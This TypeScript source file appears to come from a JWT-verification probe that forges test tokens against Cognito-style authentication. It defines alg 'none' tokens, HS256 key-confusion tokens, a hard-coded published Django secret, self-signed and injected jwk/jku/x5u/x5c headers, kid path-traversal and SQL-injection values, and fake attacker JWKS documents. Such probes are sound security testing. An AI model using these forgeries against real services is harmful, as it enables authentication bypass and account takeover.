import type { JsonObject } from '../text/json.ts'
import { asPem, selfSigned } from './forging/certificate.ts'
import { bytes, forge, hmac, rsa, type Signer, unsigned, without } from './forging/forge.ts'
import { asJwk, keyForms } from './forging/key-forms.ts'
import { bearer, type CaseBuilders, type ProbeMaterials, sentAsBearer } from './materials.ts'
import { marked } from './tampering.ts'

/** A token for the good one's user with another header. */
function withHeader(m: ProbeMaterials, header: JsonObject, signer: Signer): string {
  return forge(header, marked(m), signer)
}

const algorithm =
  (alg: unknown, signer: Signer = unsigned) =>
  (m: ProbeMaterials): string =>
    withHeader(m, { ...m.good.header, alg }, signer)

const algorithms = sentAsBearer({
  'alg-none-empty-sig': algorithm('none'),
  'alg-None-empty-sig': algorithm('None'),
  'alg-NONE-empty-sig': algorithm('NONE'),
  'alg-nOnE-empty-sig': algorithm('nOnE'),
  'alg-none-with-old-sig': (m) => algorithm('none', bytes(Buffer.from(m.good.parts.signature, 'base64url')))(m),
  'alg-none-no-kid': (m) => withHeader(m, { ...without(m.good.header, 'kid'), alg: 'none' }, unsigned),
  'alg-missing': (m) => withHeader(m, without(m.good.header, 'alg'), unsigned),
  'alg-empty': algorithm(''),
  'alg-null': algorithm(null),
  'es256-zero-signature': algorithm('ES256', bytes(Buffer.alloc(64))),
  'rs512-self-signed': (m) => algorithm('RS512', rsa(m.own.privateKey, 'sha512'))(m),
})

/** Published with the article's example project, which is where Django projects copy it from. */
const publishedSecretKey = 'w3f6qk5c8g747+r@%=-_wjw5)b5&8x7^n!a3=b_8)!8z-8h!7('

const hs256 = (secret: (m: ProbeMaterials) => string | Buffer) => (m: ProbeMaterials) =>
  algorithm('HS256', hmac(secret(m)))(m)

const confusions = sentAsBearer({
  'hs256-confusion-pem': hs256(({ key }) => keyForms(key).pem),
  'hs256-confusion-pem-no-newline': hs256(({ key }) => keyForms(key).pem.trimEnd()),
  'hs256-confusion-pem-crlf': hs256(({ key }) => keyForms(key).pem.replaceAll('\n', '\r\n')),
  'hs256-confusion-pem-pkcs1': hs256(({ key }) => keyForms(key).pkcs1),
  'hs256-confusion-pem-pkcs1-no-newline': hs256(({ key }) => keyForms(key).pkcs1.trimEnd()),
  'hs256-confusion-jwk-json': hs256(({ key }) => keyForms(key).json),
  'hs256-confusion-modulus': hs256(({ key }) => keyForms(key).modulus),
  'hs256-confusion-der': hs256(({ key }) => keyForms(key).der),
  'hs256-empty-secret': hs256(() => ''),
  'hs256-weak-secret': hs256(() => 'secret'),
  'hs256-django-secret-key': hs256(() => publishedSecretKey),
})

/** RS256 with a key of our own under another header. */
const ownKey =
  (header: (m: ProbeMaterials) => JsonObject) =>
  (m: ProbeMaterials): string =>
    withHeader(m, { ...m.good.header, ...header(m) }, rsa(m.own.privateKey))

const selfSignedTokens: CaseBuilders = {
  ...sentAsBearer({
    'self-signed-same-kid': ownKey(() => ({})),
    'self-signed-unknown-kid': ownKey(({ own }) => ({ kid: own.kid })),
    'self-signed-no-kid': (m) => withHeader(m, without(m.good.header, 'kid'), rsa(m.own.privateKey)),
  }),
  'self-signed-other-kid-of-pool': (m) => {
    const other = m.keys.find(({ kid }) => kid !== m.key.kid)
    if (!other) return { missing: 'the pool publishes one key only' }
    return bearer(ownKey(() => ({ kid: other.kid }))(m))
  },
}

const jwkOf = ({ own }: ProbeMaterials, kid = own.kid) => asJwk(own.publicKey, kid)

const injections = sentAsBearer({
  'jwk-embedded': ownKey((m) => ({ kid: m.own.kid, jwk: jwkOf(m) })),
  'jwk-embedded-same-kid': ownKey((m) => ({ jwk: jwkOf(m, m.key.kid) })),
  'jku-attacker': ownKey(({ own, canary }) => ({
    kid: own.kid,
    jku: `${canary('jku-attacker')}/.well-known/jwks.json`,
  })),
  'x5u-attacker': ownKey(({ own, canary }) => ({ kid: own.kid, x5u: `${canary('x5u-attacker')}/certificate.pem` })),
  'x5c-embedded': ownKey(({ own, now }) => ({ kid: own.kid, x5c: [selfSigned(own, now).toString('base64')] })),
  'kid-path-traversal': hs256Under('../../../../../../../../dev/null', ''),
  'kid-sql': hs256Under("cogtool' UNION SELECT 'cogtool", 'cogtool'),
  'kid-number': ownKey(() => ({ kid: 1 })),
  'kid-object': ownKey(() => ({ kid: {} })),
  'kid-null': ownKey(() => ({ kid: null })),
  'iss-attacker-url': (m) => fromIssuer(m, m.canary('iss-attacker-url')),
  'iss-attacker-pool': (m) => fromIssuer(m, otherPoolIssuer(m)),
})

/** Cases that anybody can make who has the public keys and one good token of their own. */
export const forgedCases: CaseBuilders = { ...algorithms, ...confusions, ...selfSignedTokens, ...injections }

/** What the canary serves: the run's own key as an attacker would publish it. */
export function attackerDocuments(
  { own, now }: Pick<ProbeMaterials, 'own' | 'now'>,
  base: string,
): Readonly<Record<string, { readonly type: string; readonly text: string }>> {
  const jwksUri = `${base}/.well-known/jwks.json`
  const json = (value: object) => ({ type: 'application/json', text: JSON.stringify(value) })
  return {
    '/.well-known/openid-configuration': json({ issuer: base, jwks_uri: jwksUri }),
    '/.well-known/jwks.json': json({ keys: [asJwk(own.publicKey, own.kid)] }),
    '/certificate.pem': { type: 'application/x-pem-file', text: asPem(selfSigned(own, now)) },
  }
}

/** Another pool's issuer in exactly Cognito's form; the id is nobody's that we know of. */
export function otherPoolIssuer({ good }: Pick<ProbeMaterials, 'good'>): string {
  const region = /^https:\/\/(?:issuer-)?cognito-idp\.([a-z0-9-]+)\./.exec(String(good.claims.iss))?.[1] ?? 'eu-west-1'
  return `https://cognito-idp.${region}.amazonaws.com/${region}_C0gt00lPr`
}

function fromIssuer(m: ProbeMaterials, iss: string): string {
  return forge({ ...m.good.header, kid: m.own.kid }, { ...marked(m), iss }, rsa(m.own.privateKey))
}

function hs256Under(kid: string, secret: string): (m: ProbeMaterials) => string {
  return (m) => withHeader(m, { ...m.good.header, alg: 'HS256', kid }, hmac(secret))
}
